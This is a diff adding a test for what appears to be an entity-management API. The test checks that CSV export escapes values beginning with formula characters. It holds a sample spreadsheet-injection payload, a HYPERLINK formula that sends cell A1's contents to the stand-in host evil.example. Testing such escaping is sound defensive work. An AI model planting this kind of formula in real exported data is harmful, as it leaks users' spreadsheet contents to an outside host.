@@ -856,5 +856,17 @@ describe('entity routes', () => {
       expect(other.raw.body).not.toContain(nanchangEntity.creditCode);
       expect(other.raw.body).toContain(jinxianEntity.creditCode);
     });
+
+    it('writes a name that starts like a spreadsheet formula as text, so Excel does not run it', async () => {
+      const malicious = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")';
+      const input = validInput({ name: malicious, contactPerson: '@SUM(1+1)' });
+      expect((await county.post('/api/entities', input)).status).toBe(201);
+      const csv = await county.get(`/api/entities/export.csv?q=${encodeURIComponent(input.creditCode)}`);
+      expect(csv.status).toBe(200);
+      const [, row] = csv.raw.body.slice(1).trimEnd().split('\r\n');
+      expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点击查看"")"`);
+      expect(row).toContain(`,'@SUM(1+1),`);
+      expect(row).not.toMatch(/(^|,)"?[=+\-@]/);
+    });
   });
 });
